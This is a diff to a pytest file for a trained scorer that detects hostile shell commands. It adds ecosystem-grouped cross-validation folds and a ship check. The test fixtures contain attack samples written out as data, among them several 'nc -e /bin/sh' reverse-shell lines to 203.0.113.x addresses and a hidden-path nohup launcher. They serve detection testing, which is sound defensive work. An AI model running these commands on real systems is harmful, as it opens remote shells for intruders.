@@ -356,22 +356,27 @@ def test_the_training_script_runs_end_to_end_on_a_small_sample(tmp_path: Path) -
     env = {**os.environ, "PYTHONPATH": str(ROOT / "src")}
     proc = subprocess.run(
         [sys.executable, str(ROOT / "scripts" / "train_scorer.py"), "--sample", "6",
-         "--forward", "9", "10", "--left-out", "2", "10", "--out", str(out), "--json"],
+         "--forward", "10", "11", "--left-out", "2", "11", "--eco-folds", "3", "--out", str(out),
+         "--json"],
         env=env, capture_output=True, text=True, timeout=600, check=False,
     )  # fmt: skip
     assert proc.returncode == 0, proc.stderr[-3000:]
     tables = json.loads(proc.stdout)
-    assert [r["set"] for r in tables["forward"]] == ["9", "10"]
-    assert [r["set"] for r in tables["loso"]] == ["2", "10"]  # the newest set is among them
-    for r in tables["forward"] + tables["loso"]:
+    assert [r["set"] for r in tables["forward"]] == ["10", "11"]
+    assert [r["set"] for r in tables["loso"]] == ["2", "11"]  # the newest set is among them
+    assert [r["set"] for r in tables["ecosystem"]] == ["eco0", "eco1", "eco2"]
+    for r in tables["forward"] + tables["loso"] + tables["ecosystem"]:
         assert r["both_detect"] >= max(r["rules_detect"], r["scorer_detect"])
         assert r["both_fp"] >= r["added_fp"]
     model = CommandScorer.load(out)
     assert model.weights and model.meta["loso"] == tables["loso"]
     assert model.meta["forward"] == tables["forward"]
-    # the margin is chosen on the forward folds but the last (set 9 here)
-    assert tables["forward"][0]["added_fp"] <= 0.0025 or model.meta["training"]["margin"] == 5.0
-    assert "heldout11" not in json.dumps(model.meta["training"])  # the fresh set is not read
+    # the margin is chosen on the leave-ecosystems-out folds
+    eco = [r["added_fp"] for r in tables["ecosystem"]]
+    assert max(eco) <= 0.004 or model.meta["training"]["margin"] == 5.0
+    assert "heldout12" not in json.dumps(model.meta["training"])  # the fresh set is not read
+    # a sample never passes the ship check: the shipped path is refused
+    assert "trained on a sample" in model.meta["training"]["ship_check"]
     assert isinstance(model.score(ATTACKS[0]).value, float)
     _assert_bound_holds(model, ATTACKS + NEAR_MISSES)
 
@@ -438,6 +443,116 @@ def test_a_forward_fold_trains_only_on_what_was_known_before_its_set() -> None:
     assert ts.forward_train(items, 9) == [0, 1, 4, 5]
     assert ts.forward_train(items, 10) == [0, 1, 2, 4, 5, 6, 7]
     assert ts.forward_train(items, 11) == list(range(len(items)))
+
+
+@pytest.mark.parametrize(
+    ("line", "eco"),
+    [
+        ("sudo containerlab deploy -t lab/x.clab.yml", "containerlab"),
+        ("cd build && make -j4", "make"),
+        ("FOO=1 env -u BAR /usr/sbin/postfix check", "postfix"),
+        ("python3 -m pytest -q tests", "pytest"),
+        ("npx vite build", "vite"),
+        ("python3.11 script.py", "script.py"),
+        ("export PATH=$PATH:~/bin; gmsh -3 mesh.geo", "gmsh"),
+        ("time ./bin/solr start", "solr"),
+        ("export A=1", ""),
+    ],
+)
+def test_an_everyday_line_is_grouped_by_its_ecosystem(line: str, eco: str) -> None:
+    ts: Any = _train_scorer_module()
+    assert ts.ecosystem(line) == eco
+
+
+def test_leave_ecosystems_out_takes_every_line_of_the_held_ecosystems_out_of_training() -> None:
+    pytest.importorskip("sklearn", reason="training needs the 'train' extra (scikit-learn)")
+    ts: Any = _train_scorer_module()
+    items = [ts.Item("dev", 1, f"nc -e /bin/sh 203.0.113.{n} 4444") for n in range(6)]
+    tools = ["vtysh", "sinfo", "zpool", "asterisk", "dcm2niix", "caget", "gmsh", "lpstat"]
+    for n, tool in enumerate(tools):
+        items.append(ts.Item(str(1 + n % 3), 0, f"{tool} -x {n}"))
+        items.append(ts.Item("breadth", 0, f"sudo {tool} --help"))
+    tr = ts.Trainer(items)
+    seen: list[int] = []
+    for j, fold in enumerate(ts.ecosystem_folds(tr, 3)):
+        held_tools = {items[i].command.split()[0] for i in fold.held}
+        assert all(ts._eco_fold(t, 3) == j for t in held_tools)
+        seen += fold.held
+    assert sorted(seen) == [i for i, it in enumerate(items) if not it.label and it.group != "breadth"]
+
+
+def test_a_tool_every_corpus_shares_keeps_its_written_lines_when_held_out(
+    monkeypatch: pytest.MonkeyPatch,
+) -> None:
+    ts: Any = _train_scorer_module()
+    items = [
+        ts.Item("dev", 1, "nc -e /bin/sh 203.0.113.1 4444"),
+        ts.Item("1", 0, "curl -s http://localhost:8000/health"),
+        ts.Item("2", 0, "curl -I https://example.org"),
+        ts.Item("2", 0, "smartctl -H /dev/sdb"),
+        ts.Item("breadth", 0, "curl -fsSL https://sh.rustup.rs -o rustup.sh"),
+        ts.Item("breadth", 0, "sudo smartctl --scan"),
+    ]
+    seen: dict[int, list[tuple[list[int], list[int]]]] = {}
+    for common in (0, 2):
+        got = seen[common] = []
+        monkeypatch.setattr(
+            ts, "measure", lambda tr, name, train, held, got=got: got.append((train, held))
+        )
+        tr = object.__new__(ts.Trainer)
+        tr.items = items
+        ts.ecosystem_folds(tr, 2, None, common)
+    for common, kept in ((0, False), (2, True)):
+        for train, held in seen[common]:
+            if 1 in held:  # curl's fold: its corpus lines are out, its written line?
+                assert 2 in held and 1 not in train and 2 not in train
+                assert (4 in train) is kept
+            if 3 in held:  # a tool one corpus holds leaves with every line of it
+                assert 5 not in train
+
+
+def test_a_feature_weighs_for_an_attack_only_if_several_sets_attacks_hold_it() -> None:
+    pytest.importorskip("sklearn", reason="training needs the 'train' extra (scikit-learn)")
+    ts: Any = _train_scorer_module()
+    items = [ts.Item(g, 1, f"nc -e /bin/sh 203.0.113.{n} 4444") for n, g in enumerate("123")]
+    # one set's vocabulary
+    items += [ts.Item("1", 1, f"frobnicate --exfil 203.0.113.{n}") for n in range(10, 40)]
+    items += [ts.Item("breadth", 0, line) for line in ("ls -la", "git status", "make test")]
+    tr = ts.Trainer(items)
+    support = dict(zip(tr.names, tr.attack_support(list(range(len(items)))), strict=True))
+    assert support[b"t:nc"] == 3 and support[b"t:frobnicate"] == 1
+    for min_sets, allowed in ((1, True), (3, False)):
+        weights = ts.Trainer(items, min_sets).fit(list(range(len(items)))).weights
+        assert (weights.get(b"t:frobnicate", 0.0) > 0) is allowed
+        positive = [f for f, w in weights.items() if w > 0]
+        assert positive and all(support[f] >= min_sets for f in positive)
+
+
+def test_a_privilege_or_environment_wrapper_never_weighs_for_an_attack() -> None:
+    pytest.importorskip("sklearn", reason="training needs the 'train' extra (scikit-learn)")
+    ts: Any = _train_scorer_module()
+    neutral = ts.neutral_features()
+    assert {b"t:sudo", b"c:sudo", b"g: sudo", b"g:sudo ", b"g:udo "} <= neutral
+    items = [ts.Item(g, 1, f"sudo nc -e /bin/sh 203.0.113.{n} 4444") for n, g in enumerate("123")]
+    items += [ts.Item("2", 1, f"sudo env X=1 nohup /tmp/.x/kw{n} &") for n in range(20)]
+    items += [ts.Item("breadth", 0, line) for line in ("ls -la", "git status", "make test")]
+    for use, positive in ((True, False), (False, True)):
+        weights = ts.Trainer(items, neutral=use).fit(list(range(len(items)))).weights
+        assert any(weights.get(f, 0.0) > 0 for f in neutral) is positive
+        assert any(w > 0 for f, w in weights.items() if f not in neutral)  # the rest weighs
+
+
+def test_the_ship_check_names_what_keeps_a_model_from_shipping() -> None:
+    ts: Any = _train_scorer_module()
+    eco = [{"set": f"eco{j}", "added_fp": 0.002} for j in range(5)]
+    fwd = [{"set": str(ts.FRESH - 1), "both_detect": 0.9, "added_fp": 0.01}]
+    assert ts.ship_check({"ecosystem": eco, "forward": fwd}, []) == []
+    bad = [{**eco[0], "added_fp": 0.006}, *eco[1:]]
+    assert any("eco0" in w for w in ts.ship_check({"ecosystem": bad, "forward": fwd}, []))
+    low = [{**fwd[0], "both_detect": 0.87}]
+    assert any("rules OR scorer" in w for w in ts.ship_check({"ecosystem": eco, "forward": low}, []))
+    assert ts.ship_check({"ecosystem": eco, "forward": []}, [])  # fold 11 not measured
+    assert ts.ship_check({"ecosystem": eco, "forward": fwd}, ["ls -la"])  # fires on a probe
 
 
 # ---------------------------------------------------------------- the fast reject is exact
